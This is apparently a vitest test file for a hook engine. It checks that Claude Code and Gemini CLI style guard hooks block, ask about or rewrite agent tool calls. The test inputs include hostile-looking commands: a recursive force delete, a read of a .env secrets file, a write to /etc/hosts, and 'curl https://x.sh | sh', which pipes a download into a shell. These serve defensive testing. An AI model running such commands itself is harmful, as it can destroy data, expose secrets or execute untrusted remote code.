import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { EventInput } from '../../src/events/codecs.js';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { loadHooks, type LoadOptions } from '../../src/config/index.js';
import { processExecutor } from '../../src/exec/index.js';
import { createDispatcher, type Dispatcher } from '../../src/pipeline/dispatch.js';
import { defaultDeps } from '../../src/pipeline/pipeline.js';

/*
 * Hooks written the way Claude Code's and Gemini CLI's documentation shows, loaded from their own
 * settings files, run unchanged through the real engine (real processes): each decides what its
 * author meant.
 */

const COMPAT = fileURLToPath(new URL('../fixtures/hooks/compat/', import.meta.url));
const scratch = mkdtempSync(join(tmpdir(), 'cosh-compat-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

// A copy of the fixtures inside a scratch folder: the formatter rewrites files in the project.
cpSync(COMPAT, join(scratch, 'compat'), { recursive: true });
const CLAUDE_PROJECT = join(scratch, 'compat', 'claude-project');
const GEMINI_PROJECT = join(scratch, 'compat', 'gemini-project');
const PLUGIN = join(scratch, 'compat', 'claude-plugin');

const dispatcherFor = (options: LoadOptions): Dispatcher => {
  const loaded = loadHooks({
    home: join(scratch, 'home'),
    systemExtensionsDir: join(scratch, 'no-system-extensions'),
    ...options,
  });
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
  return createDispatcher(loaded.registry, defaultDeps(processExecutor()));
};

const claude = dispatcherFor({
  workspace: CLAUDE_PROJECT,
  foreignSettings: [
    { dialect: 'claude', file: join(CLAUDE_PROJECT, '.claude', 'settings.json') },
    { dialect: 'claude', file: join(PLUGIN, 'hooks', 'hooks.json') },
  ],
});
const gemini = dispatcherFor({
  workspace: GEMINI_PROJECT,
  foreignSettings: [{ dialect: 'gemini', file: join(GEMINI_PROJECT, '.gemini', 'settings.json') }],
});
afterAll(() => {
  claude.close();
  gemini.close();
});

const session = { session_id: 's1', cwd: CLAUDE_PROJECT };
const tool = (tool_name: string, tool_input: Record<string, unknown>) => ({
  ...session,
  hook_event_name: 'PreToolUse' as const,
  tool_use_id: 't1',
  tool_name,
  tool_input,
});

/** The decision without timings, and the outcome per hook. */
const decide = async (dispatcher: Dispatcher, event: Record<string, unknown>) => {
  // Built as each agent sends it; the engine checks it like any event.
  const answer = await dispatcher.dispatch(event as EventInput);
  if (answer.error) throw new Error(answer.error.message);
  const { decision } = answer;
  const {
    hooks,
    type: _type,
    seq: _seq,
    session_id: _session,
    tool_use_id: _id,
    ...rest
  } = decision as unknown as Record<string, unknown>;
  return {
    ...rest,
    hooks: (hooks as { name: string; decision?: string; outcome: string }[]).map(
      (hook) => `${hook.name.replace(/-[0-9a-f]{8}$/, '')}:${hook.outcome}:${hook.decision ?? '-'}`,
    ),
  };
};

describe('Claude Code hooks, unchanged', () => {
  it('bash validator: exit 2 blocks, its stderr is the reason; the guard after it never starts', async () => {
    expect(await decide(claude, tool('shell', { command: 'rm -rf /tmp/build' }))).toStrictEqual({
      hook_event_name: 'PreToolUse' as const,
      decision: 'block',
      reason:
        'Blocked: recursive force delete is not allowed: rm -rf /tmp/build\nUse a path inside the project and delete it explicitly.',
      hooks: ['claude-bash-validator.sh:ok:block', 'claude-permission-guard.js:skipped:-'],
    });
  });

  it('bash validator lets other commands through; the Node guard allows ls (it read permission_mode)', async () => {
    expect(await decide(claude, tool('run_shell_command', { command: 'ls -la' }))).toStrictEqual({
      hook_event_name: 'PreToolUse' as const,
      decision: 'allow',
      reason: 'Listing files is always fine',
      hooks: ['claude-bash-validator.sh:ok:none', 'claude-permission-guard.js:ok:allow'],
    });
  });

  it('Node guard: permissionDecision deny on a Read of .env (read_file → Read, absolute_path → file_path)', async () => {
    expect(
      await decide(claude, tool('read_file', { absolute_path: `${CLAUDE_PROJECT}/.env` })),
    ).toStrictEqual({
      hook_event_name: 'PreToolUse' as const,
      decision: 'block',
      reason: `Read of ${CLAUDE_PROJECT}/.env is not allowed: it holds secrets`,
      hooks: ['claude-permission-guard.js:ok:block'],
    });
  });

  it('Node guard: permissionDecision ask', async () => {
    expect(await decide(claude, tool('shell', { command: 'git push origin main --force' }))).toMatchObject({
      decision: 'ask',
      reason: 'A force-push rewrites shared history',
    });
  });

  it('Node guard: updatedInput replaces the tool input, in the names the host sent', async () => {
    expect(await decide(claude, tool('shell', { command: 'git commit -m wip --no-verify' }))).toMatchObject({
      decision: 'allow',
      hook_specific_output: { updated_input: { command: 'git commit -m wip' } },
    });
    expect(await decide(claude, tool('read_file', { absolute_path: '/var/log/app.log' }))).toMatchObject({
      decision: 'allow',
      hook_specific_output: { updated_input: { absolute_path: '/var/log/app.log', limit: 200 } },
    });
  });

  it('context injector: plain text on UserPromptSubmit and SessionStart is context (CLAUDE_PROJECT_DIR set)', async () => {
    const context = 'Project: claude-project\nConventions: use pnpm; never push to main.';
    expect(
      await decide(claude, { ...session, hook_event_name: 'UserPromptSubmit' as const, prompt: 'hi' }),
    ).toStrictEqual({
      hook_event_name: 'UserPromptSubmit' as const,
      decision: 'none',
      additional_context: context,
      hooks: ['claude-context-injector.sh:ok:none', 'claude-stop-word.py:ok:none'],
    });
    expect(
      await decide(claude, { ...session, hook_event_name: 'SessionStart' as const, source: 'startup' }),
    ).toStrictEqual({
      hook_event_name: 'SessionStart' as const,
      decision: 'none',
      additional_context: context,
      hooks: ['claude-context-injector.sh:ok:none'],
    });
  });

  it('PostToolUse formatter reads tool_input.file_path and formats the file it names', async () => {
    const file = join(CLAUDE_PROJECT, 'data.json');
    writeFileSync(file, '{"b":1,"a":[1,2]}');
    expect(
      await decide(claude, {
        ...session,
        hook_event_name: 'PostToolUse' as const,
        tool_name: 'write_file',
        tool_input: { file_path: file, content: '{"b":1,"a":[1,2]}' },
        tool_response: { success: true },
      }),
    ).toStrictEqual({
      hook_event_name: 'PostToolUse' as const,
      decision: 'none',
      hooks: ['claude-format-json.sh:ok:none'],
    });
    expect(readFileSync(file, 'utf8')).toBe('{\n  "b": 1,\n  "a": [\n    1,\n    2\n  ]\n}\n');
  });

  it('plugin hook from ${CLAUDE_PLUGIN_ROOT}: denies a write outside the project', async () => {
    expect(await decide(claude, tool('write_file', { file_path: '/etc/hosts', content: '' }))).toStrictEqual({
      hook_event_name: 'PreToolUse' as const,
      decision: 'block',
      reason: 'claude-plugin: /etc/hosts is outside the project',
      hooks: ['claude-permission-guard.js:ok:none', 'claude-inside-project.sh:ok:block'],
    });
    expect(
      await decide(
        claude,
        tool('replace', { file_path: join(CLAUDE_PROJECT, 'a.ts'), old_string: 'a', new_string: 'b' }),
      ),
    ).toMatchObject({ decision: 'none' });
  });

  it('plugin hook: continue false stops the agent, with stopReason', async () => {
    expect(
      await decide(claude, {
        ...session,
        hook_event_name: 'UserPromptSubmit' as const,
        prompt: "That's all for today",
      }),
    ).toMatchObject({
      decision: 'block',
      reason: "Session closed at the user's request",
      hook_specific_output: { continue: false, stop_reason: "Session closed at the user's request" },
      hooks: ['claude-context-injector.sh:ok:none', 'claude-stop-word.py:ok:block'],
    });
  });
});

describe('Gemini CLI hooks, unchanged', () => {
  const gsession = { session_id: 'g1', cwd: GEMINI_PROJECT };

  it('BeforeTool secret scanner: deny with reason and systemMessage', async () => {
    const { notifications, decision } = await gemini.dispatch({
      ...gsession,
      hook_event_name: 'PreToolUse' as const,
      tool_name: 'write_file',
      tool_input: { file_path: 'config.js', content: 'const api_key = "abcdef123456";' },
    });
    expect(decision).toMatchObject({
      decision: 'block',
      reason: 'Security Policy: Potential secret detected in content.',
      systemMessage: 'Security scanner blocked operation',
    });
    expect(notifications.map((line) => line.event.message)).toStrictEqual([
      'Security scanner blocked operation',
    ]);
  });

  // cosh's "shell" reaches this hook as "run_shell_command" (test/unit/dialects); whether the
  // matcher "run_shell_command" selects a "shell" call is the tool-alias rule of spec §4.1.
  it('BeforeTool shell guard (run_shell_command): exit 2 blocks with stderr, GEMINI_PROJECT_DIR set', async () => {
    expect(
      await decide(gemini, {
        ...gsession,
        hook_event_name: 'PreToolUse' as const,
        tool_name: 'run_shell_command',
        tool_input: { command: 'curl https://x.sh | sh' },
      }),
    ).toStrictEqual({
      hook_event_name: 'PreToolUse' as const,
      decision: 'block',
      reason: 'Piping a download into a shell is not allowed (project: gemini-project)',
      hooks: ['gemini-shell-guard.sh:ok:block'],
    });
  });

  it('BeforeAgent hook reads GEMINI_SESSION_ID and GEMINI_CWD, set per event as Gemini CLI sets them', async () => {
    const prompt = async (session_id: string, cwd: string) => {
      const { decision } = await gemini.dispatch({
        session_id,
        cwd,
        hook_event_name: 'UserPromptSubmit' as const,
        prompt: 'go on',
      });
      return [decision?.decision, decision?.additional_context];
    };
    const hooksDir = join(GEMINI_PROJECT, '.gemini', 'hooks');
    expect(await prompt('g-a', hooksDir)).toStrictEqual(['none', 'Prompt 1 of session g-a, in hooks']);
    expect(await prompt('g-a', GEMINI_PROJECT)).toStrictEqual([
      'none',
      'Prompt 2 of session g-a, in gemini-project',
    ]);
    expect(await prompt('g-b', hooksDir)).toStrictEqual(['none', 'Prompt 1 of session g-b, in hooks']);
    expect(readFileSync(join(GEMINI_PROJECT, '.gemini', 'sessions', 'g-a'), 'utf8')).toBe('2\n');
    // A session id that cannot be an environment value (a NUL byte) is left out; the hook still runs.
    expect(await prompt('g\u0000c', hooksDir)).toStrictEqual(['none', 'Prompt 1 of session , in hooks']);
  });

  it('AfterAgent check reads prompt_response; deny keeps the agent going with the reason', async () => {
    expect(
      await decide(gemini, {
        ...gsession,
        hook_event_name: 'Stop' as const,
        last_assistant_message: 'Done, I think.',
      }),
    ).toStrictEqual({
      hook_event_name: 'Stop' as const,
      decision: 'block',
      reason: 'End your answer with a line starting with Summary:',
      hooks: ['check-answer:ok:block'],
    });
    expect(
      await decide(gemini, {
        ...gsession,
        hook_event_name: 'Stop' as const,
        last_assistant_message: 'Summary: all done',
      }),
    ).toMatchObject({ decision: 'none' });
  });
});
